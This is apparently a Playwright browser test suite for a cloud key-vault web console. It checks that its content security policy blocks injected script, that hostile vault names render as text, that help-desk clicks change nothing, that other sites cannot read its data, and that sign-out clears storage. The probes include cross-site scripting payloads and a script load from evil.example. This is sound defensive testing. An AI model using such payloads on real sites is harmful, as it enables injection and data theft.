// Promises that only a real browser can show. A story's title begins with the number of its promise and says how many cases it tries.
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { Locator } from "@playwright/test";
import type { Inventory } from "#lib/contract/api.ts";
import { isFull } from "../promises/size.ts";
import { expect, signInAs, test } from "./harness.ts";
import { hostileTexts } from "./hostile-texts.ts";

/** Run in the page; each says by what it was stopped, or nothing. `hit` is called by whatever managed to run. */
const probes: Record<string, string> = {
  "element.innerHTML":
    "document.body.appendChild(document.createElement('div')).innerHTML = '<img src=x onerror=hit()>'",
  "element.outerHTML":
    "document.body.appendChild(document.createElement('div')).outerHTML = '<img src=x onerror=hit()>'",
  insertAdjacentHTML: "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=hit()>')",
  "document.write": "document.write('<img src=x onerror=hit()>')",
  DOMParser: "new DOMParser().parseFromString('<script>hit()</script>', 'text/html')",
  createContextualFragment: "document.createRange().createContextualFragment('<script>hit()</script>')",
  "iframe.srcdoc":
    "document.body.appendChild(document.createElement('iframe')).srcdoc = '<script>parent.hit()</script>'",
  "script.src, another site":
    "document.head.appendChild(document.createElement('script')).src = 'https://evil.example/x.js'",
  "script.src, data of ours": "document.head.appendChild(document.createElement('script')).src = '/api/session'",
  "script.text": "document.head.appendChild(document.createElement('script')).text = 'hit()'",
  "script.textContent": "document.head.appendChild(document.createElement('script')).textContent = 'hit()'",
  eval: "(0, eval)('hit()')",
  "new Function": "new Function('hit()')()",
  "setTimeout of a string": "setTimeout('hit()', 0)",
  "an event handler attribute": "document.body.setAttribute('onclick', 'hit()'); document.body.click()",
  "new Worker, data:": "new Worker('data:text/javascript,postMessage(1)')",
  "service worker": "return navigator.serviceWorker.register('/api/session')",
  "another policy": "trustedTypes.createPolicy('mine', { createHTML: (text) => text })",
};

/** Stopped without an error in the code that tried. */
const silent = new Set(["an event handler attribute"]);

test(`P23: no string becomes script or markup (${Object.keys(probes).length} cases)`, async ({
  page,
  app,
  violations,
}) => {
  await signInAs(page, "admin", app);
  const answer = await page.goto("/vaults");
  const policies = (await answer?.headersArray())?.filter(
    ({ name }) => name.toLowerCase() === "content-security-policy",
  );
  expect(policies).toHaveLength(2);
  await expect(page.getByRole("row").nth(2)).toBeVisible();
  expect(violations.csp).toEqual([]);
  await page.evaluate("Object.assign(window, { hits: 0, hit: () => { window.hits += 1; } })");
  for (const [name, code] of Object.entries(probes)) {
    // What the debugger evaluates may evaluate on; a moment later it is the page's own code, as an injected line would be.
    const stopped = await page.evaluate(
      `(async () => { await new Promise((later) => setTimeout(later)); try { await (() => { ${code} })(); return ""; } catch (error) { return String(error); } })()`,
    );
    if (!silent.has(name)) expect(stopped, name).toMatch(/Trusted|EvalError|Content Security Policy/);
  }
  await page.waitForTimeout(1_000);
  expect(await page.evaluate("hits")).toBe(0);
  expect(violations.csp.length, "the browser reports what it refused").toBeGreaterThanOrEqual(14);
  // They were asked for.
  violations.csp.length = 0;
});

const wantedTexts = isFull ? 200 : 24;
const texts = hostileTexts(wantedTexts);

test(`P24: what the cloud says is text, wherever it is shown (${texts.length} texts)`, async ({
  page,
  app,
  violations,
}) => {
  test.setTimeout(isFull ? 1_800_000 : 300_000);
  expect(new Set(texts).size).toBe(wantedTexts);
  const asked: string[] = [];
  page.on("request", (request) => asked.push(request.url()));
  let dialogs = 0;
  page.on("dialog", (dialog) => {
    dialogs += 1;
    void dialog.dismiss();
  });
  await page.addInitScript("window.hits = 0; window.hit = () => { window.hits += 1; };");
  await signInAs(page, "admin", app);
  const inventory = await (await page.request.get("/api/inventory")).json();
  const scope = inventory.tenancies[0];
  const compartmentId = scope.compartments.at(-1).id;
  const headers = { origin: app.origin, "x-ovc-request": "1", "content-type": "application/json" };
  const kms = `/api/oci/${scope.id}/kms/us-ashburn-1/20180608/vaults`;
  const hits = async () => Number(await page.evaluate("window.hits"));
  /** How many elements of the page say the text: in their words, their value or an attribute. */
  const fieldsWith = (text: string) =>
    page.evaluate((wanted) => {
      const plain = (words: unknown) => String(words).replace(/\s+/g, " ");
      const says = (words: unknown) => plain(words).includes(plain(wanted).trim());
      return [...document.querySelectorAll("*")].filter(
        (element) =>
          [...element.childNodes].some((node) => node.nodeType === Node.TEXT_NODE && says(node.nodeValue)) ||
          ("value" in element && says(element.value)) ||
          [...element.attributes].some(({ value }) => says(value)),
      ).length;
    }, text);
  for (const [index, text] of texts.entries()) {
    const key = `k${text.replace(/[^\x21-\x7e]|\./g, "_").slice(0, 90)}`;
    const answer = await page.request.post(kms, {
      headers,
      data: {
        compartmentId,
        displayName: text,
        vaultType: "DEFAULT",
        freeformTags: { [key]: text.slice(0, 256), owner: text.slice(0, 256) },
      },
    });
    expect(answer.status(), `${text}: ${await answer.text()}`).toBe(200);
    const { id } = await answer.json();
    // Name, tags and OCID on the vault's own page; then forms that carry them on, on every fourth (each text passes them in full).
    await page.goto(`/vaults/us-ashburn-1/${id}`);
    await expect(page.getByRole("heading", { level: 1 })).toContainText(text);
    await expect(page.locator("main [aria-busy=true]")).toHaveCount(0);
    let fields = await fieldsWith(text);
    if (isFull || index % 4 === 0) {
      for (const form of ["edit", "schedule-deletion", "move", "backup"]) {
        await page.goto(`/vaults/us-ashburn-1/${id}/${form}`);
        await expect(page.getByRole("heading", { level: 1 })).toContainText(text);
        expect(await hits(), `${form}: ${text}`).toBe(0);
        fields += await fieldsWith(text);
      }
      expect(fields, `fields that say ${text}`).toBeGreaterThanOrEqual(12);
    }
    expect(await hits(), text).toBe(0);
  }
  for (const address of ["/vaults", "/activity", "/deletions", `/vaults?q=${encodeURIComponent(texts[0] ?? "")}`]) {
    await page.goto(address);
    await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
    await page.waitForTimeout(1_000);
    expect(await hits(), address).toBe(0);
  }
  expect(dialogs).toBe(0);
  expect(asked.filter((url) => !url.startsWith(app.origin) && !url.startsWith("blob:"))).toEqual([]);
  expect(violations.csp).toEqual([]);
});

const pressable = "main :is(button, [role=tab], [role=checkbox], [role=radio], summary), header button";
const pressedMax = isFull ? 400 : 20;

test("P16: the help desk presses whatever the pages offer, and nothing is changed (13 pages)", async ({
  page,
  app,
}) => {
  test.setTimeout(isFull ? 3_600_000 : 600_000);
  await signInAs(page, "helpdesk", app);
  const { vaults } = (await (await page.request.get("/api/inventory")).json()) as Inventory;
  const vaultIn = (state: string) => {
    const { region, id } = vaults.find(({ lifecycleState }) => lifecycleState === state) ?? { region: "", id: "" };
    return `/vaults/${region}/${id}`;
  };
  const active = vaultIn("ACTIVE");
  const forms = ["edit", "move", "backup", "create-replica", "schedule-deletion"].map((form) => `${active}/${form}`);
  const pages = ["/vaults", "/deletions", "/vaults/create", "/restore", "/status", "/account", active];
  const before = (await app.calls()).calls.length;
  let pressed = 0;
  const press = async (control: Locator) => {
    // What was pressed before may have taken it away; nothing here waits for it to come back.
    if (!(await control.isVisible())) return;
    const name = await control.evaluate((element) => `${element.textContent} ${element.ariaLabel}`).catch(() => "");
    if (/sign out/i.test(name)) return;
    // What is greyed out is pressed all the same.
    await control.click({ force: true, timeout: 1_000 }).then(
      () => {
        pressed += 1;
      },
      () => undefined,
    );
  };
  // Whole each time: of a page still loading there is less to press, and the round would end early.
  const visit = async (address: string) => {
    await page.goto(address);
    await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
    await expect(page.locator("main [aria-busy=true]")).toHaveCount(0, { timeout: 30_000 });
  };
  for (const address of [...pages, vaultIn("PENDING_DELETION"), ...forms]) {
    await visit(address);
    const earlier = pressed;
    for (let index = 0; index < Math.min(pressedMax, await page.locator(pressable).count()); index += 1) {
      await press(page.locator(pressable).nth(index));
      for (let item = 0; item < Math.min(pressedMax, await page.getByRole("menuitem").count()); item += 1) {
        await press(page.getByRole("menuitem").nth(item));
      }
      const dialog = page.locator("[role=dialog], [role=alertdialog]").last();
      if (await dialog.isVisible()) {
        for (const field of await dialog.getByRole("textbox").all()) {
          await field.fill("Because the help desk tries everything", { timeout: 2_000 }).catch(() => undefined);
        }
        // What a dialog is for is its last button; the first ones leave it.
        for (let button = (await dialog.getByRole("button").count()) - 1; button >= 0; button -= 1) {
          await press(dialog.getByRole("button").nth(button));
        }
      }
      await page.keyboard.press("Escape");
      if (new URL(page.url()).pathname !== address) {
        await visit(address);
      }
    }
    // How many there are depends on what the ones before have opened; that none is pressed is what would prove nothing.
    expect(pressed - earlier, `pressed on ${address}`).toBeGreaterThanOrEqual(3);
  }
  const changing = (await app.calls()).calls
    .slice(before)
    .filter(({ method }) => method !== "GET" && method !== "HEAD");
  expect(changing).toEqual([]);
  expect(pressed).toBeGreaterThan(60);
});

const embeds: Record<string, string> = {
  image: "<img src=ADDRESS>",
  script: "<script src=ADDRESS></script>",
  style: "<link rel=stylesheet href=ADDRESS>",
  frame: "<iframe src=ADDRESS></iframe>",
  object: "<object data=ADDRESS></object>",
  embed: "<embed src=ADDRESS>",
  video: "<video src=ADDRESS></video>",
  preload: "<link rel=preload as=fetch href=ADDRESS>",
};
const secrets = ["/api/inventory", "/api/session/list", "/api/activity", "/api/people", "/vaults"];

test(`P26: another site gets nothing of the console's data (${Object.keys(embeds).length * secrets.length} cases)`, async ({
  page,
  app,
  violations,
}) => {
  await signInAs(page, "admin", app);
  // The same host under another port: the same site, which a strict cookie does not keep out.
  const host = new URL(app.origin).hostname;
  const other = createServer((request, response) => {
    const { searchParams } = new URL(request.url ?? "/", "http://x");
    const markup = (embeds[searchParams.get("kind") ?? ""] ?? "").replace("ADDRESS", searchParams.get("address") ?? "");
    response.writeHead(200, { "content-type": "text/html" }).end(`<!doctype html><title>other</title>${markup}`);
  });
  await new Promise<void>((resolve) => other.listen(0, "127.0.0.1", resolve));
  try {
    const elsewhere = `http://${host}:${(other.address() as AddressInfo).port}`;
    for (const kind of Object.keys(embeds)) {
      for (const secret of secrets) {
        const address = `${app.origin}${secret}`;
        const got: number[] = [];
        const onResponse = (response: import("@playwright/test").Response) => {
          if (response.url() === address) got.push(response.status());
        };
        page.on("response", onResponse);
        await page.goto(`${elsewhere}/?kind=${kind}&address=${encodeURIComponent(address)}`, { waitUntil: "load" });
        page.off("response", onResponse);
        const isApi = secret.startsWith("/api/");
        for (const status of got) if (isApi) expect(status, `${kind} of ${secret}`).toBe(403);
        const frames = page.frames().filter((frame) => frame !== page.mainFrame());
        for (const frame of frames) expect(await frame.content().catch(() => "")).not.toContain("ocid1.");
      }
    }
    await page.goto(`${elsewhere}/`);
    for (const secret of secrets) {
      const read = await page.evaluate(async (address) => {
        const tries = [
          fetch(address, { credentials: "include" }),
          fetch(address, { credentials: "include", mode: "no-cors" }),
        ];
        return (await Promise.allSettled(tries.map(async (each) => (await (await each).text()).length))).map((each) =>
          each.status === "fulfilled" ? each.value : 0,
        );
      }, `${app.origin}${secret}`);
      expect(read, secret).toEqual([0, 0]);
    }
  } finally {
    other.close();
    // The browser says on that other page what it kept from it.
    violations.csp.length = 0;
  }
});

test("P27: nothing is left in the browser after signing out (6 places)", async ({ page, app }) => {
  await signInAs(page, "admin", app);
  await page.goto("/vaults");
  await expect(page.getByRole("row").nth(2)).toBeVisible();
  await page.getByRole("searchbox").fill("certificate-authority");
  await page.getByRole("link", { name: "certificate-authority" }).first().click();
  await expect(page.getByRole("heading", { name: "certificate-authority", level: 1 })).toBeVisible();
  await page.getByRole("button", { name: /^Account:/ }).click();
  // As the form of a new vault keeps it.
  await page.evaluate(() => sessionStorage.setItem("ovc-compartment:t", "ocid1.compartment.oc1..a"));
  await page.getByRole("menuitem", { name: /^Sign out/ }).click();
  await page.waitForURL(/\/sign-in/);
  const left = await page.evaluate(async () => ({
    local: Object.entries(localStorage),
    session: Object.entries(sessionStorage),
    databases: (await indexedDB.databases()).map(({ name }) => name),
    caches: await caches.keys(),
    workers: (await navigator.serviceWorker.getRegistrations()).length,
  }));
  expect(JSON.stringify(left)).not.toContain("ocid1.");
  expect(left).toMatchObject({ databases: [], caches: [], workers: 0 });
  // Look and kind of console are no secret, and nobody's.
  const looks = ["theme", "ovc-mode", "ovc-tenancies"];
  expect((await page.context().cookies()).filter(({ name }) => !looks.includes(name))).toEqual([]);
  for (let back = 0; back < 3; back += 1) {
    await page.goBack().catch(() => null);
    await page.waitForTimeout(700);
    // The address a person went to is the browser's own history; what the page shows and the server sent is not.
    expect(await page.content(), `after ${back + 1} × Back`).not.toContain("certificate-authority");
    expect(await page.locator("body").innerText(), `after ${back + 1} × Back`).not.toContain("ocid1.");
  }
  // The browser is told to clear the rest; it does not show a page's scripts that header, a plain request it does.
  await signInAs(page, "admin", app);
  const ended = await page.request.delete(`${app.origin}/api/session`, {
    headers: { origin: app.origin, "x-ovc-request": "1" },
  });
  expect(ended.headers()["clear-site-data"]).toBe('"cache", "storage"');
});
